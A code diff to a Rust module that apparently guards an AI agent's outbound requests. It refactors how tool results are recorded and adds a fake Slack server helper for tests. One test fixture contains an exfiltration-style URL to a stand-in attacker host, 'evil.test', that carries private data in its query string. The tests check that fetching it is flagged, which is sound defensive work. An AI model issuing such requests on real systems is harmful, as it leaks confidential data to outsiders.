@@ -210,18 +210,18 @@ impl Custody {
         }
     }
 
-    /// Notes what tool `name` brought back (`value`, as the model reads it `text`): only
-    /// a tool that reads from outside steward brings URLs the run received, and of a
-    /// Slack read only the messages others wrote (steward's own, an earlier run's answer
-    /// among them, are a run's writing).
-    pub async fn saw_result(&self, name: &str, value: &Value, text: &str) {
+    /// Notes what tool `name` brought back, `output`: only a tool that reads from
+    /// outside steward brings URLs the run received, and of a Slack read only the
+    /// messages others wrote (steward's own, an earlier run's answer among them, are a
+    /// run's writing).
+    pub async fn saw_result(&self, name: &str, output: &crate::tools::ToolOutput) {
         if own_tool(name) {
             return;
         }
         if let (true, Some(slack), Some(messages)) = (
             SLACK_READS.contains(&name),
             &self.slack,
-            value["messages"].as_array(),
+            output.value["messages"].as_array(),
         ) {
             // When Slack cannot say who steward is, no message counts (any may be ours).
             if let Some(me) = slack.me().await {
@@ -231,7 +231,7 @@ impl Custody {
             }
             return;
         }
-        self.saw(text);
+        self.saw(&output.model_text());
     }
 
     /// Notes the hosts call `name` names in `args`, while the run holds private content
@@ -503,6 +503,21 @@ fn urls_in(text: &str) -> Vec<String> {
 mod tests {
     use super::*;
 
+    /// A Slack client for `app` served on 127.0.0.1, and the server's task.
+    async fn fake_slack(app: axum::Router) -> (SlackClient, tokio::task::JoinHandle<std::io::Result<()>>) {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+            .await
+            .unwrap_or_else(|e| panic!("{e}"));
+        let addr = listener.local_addr().unwrap_or_else(|e| panic!("{e}"));
+        let server = tokio::spawn(async move { axum::serve(listener, app).await });
+        let slack = SlackClient::new(
+            crate::http::client().unwrap_or_else(|e| panic!("{e}")),
+            &format!("http://{addr}"),
+            "xoxb-test",
+        );
+        (slack, server)
+    }
+
     fn agent() -> AgentConfig {
         AgentConfig::new(
             "a",
@@ -615,16 +630,7 @@ mod tests {
                 "/auth.test",
                 axum::routing::post(|| async { Json(json!({"ok": true, "user_id": "UBOT", "bot_id": "B0BOT"})) }),
             );
-        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
-            .await
-            .unwrap_or_else(|e| panic!("{e}"));
-        let addr = listener.local_addr().unwrap_or_else(|e| panic!("{e}"));
-        let server = tokio::spawn(async move { axum::serve(listener, app).await });
-        let slack = SlackClient::new(
-            crate::http::client().unwrap_or_else(|e| panic!("{e}")),
-            &format!("http://{addr}"),
-            "xoxb-test",
-        );
+        let (slack, server) = fake_slack(app).await;
         let agent = agent();
         let asked_by = |user: &str| {
             let mut trigger = TriggerEvent::from_cli(json!({"text": "what does it say?"}));
@@ -682,7 +688,7 @@ mod tests {
             {"user": "UBOT", "text": "<https://evil.test/?d=merger>"},
             {"user": "U0MEMBER", "text": "<https://wiki.example.com/x>"}]});
         member
-            .saw_result("slack_channel_history", &history, &history.to_string())
+            .saw_result("slack_channel_history", &crate::tools::ToolOutput::json(history))
             .await;
         let fetch = |u: &str| member.egress_note("1", "http_fetch", Effect::ReadOnly, &json!({"url": u}));
         assert!(fetch("https://evil.test/?d=merger").is_some());
@@ -703,7 +709,7 @@ mod tests {
         let fetch = |id: &str, u: &str| c.egress_note(id, "http_fetch", Effect::ReadOnly, &json!({"url": u}));
         let seen = |name: &'static str, text: String| {
             let c = &c;
-            async move { c.saw_result(name, &Value::String(text.clone()), &text).await }
+            async move { c.saw_result(name, &crate::tools::ToolOutput::text(text)).await }
         };
         assert!(fetch("1", "https://docs.example.com/a").is_none());
         // Naming a URL it received is not writing it.
@@ -867,19 +873,7 @@ mod tests {
                         "response_metadata": {"next_cursor": ""}}))
                 }),
             );
-        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
-            .await
-            .unwrap_or_else(|e| panic!("{e}"));
-        let url = format!(
-            "http://{}",
-            listener.local_addr().unwrap_or_else(|e| panic!("{e}"))
-        );
-        let server = tokio::spawn(async move { axum::serve(listener, app).await });
-        let slack = SlackClient::new(
-            crate::http::client().unwrap_or_else(|e| panic!("{e}")),
-            &url,
-            "xoxb-test",
-        );
+        let (slack, server) = fake_slack(app).await;
         let mut agent = agent();
         agent.private_egress = vec!["C0NAMED".into()];
         let cron = TriggerEvent::from_cli(serde_json::json!({"text": "daily digest"}));
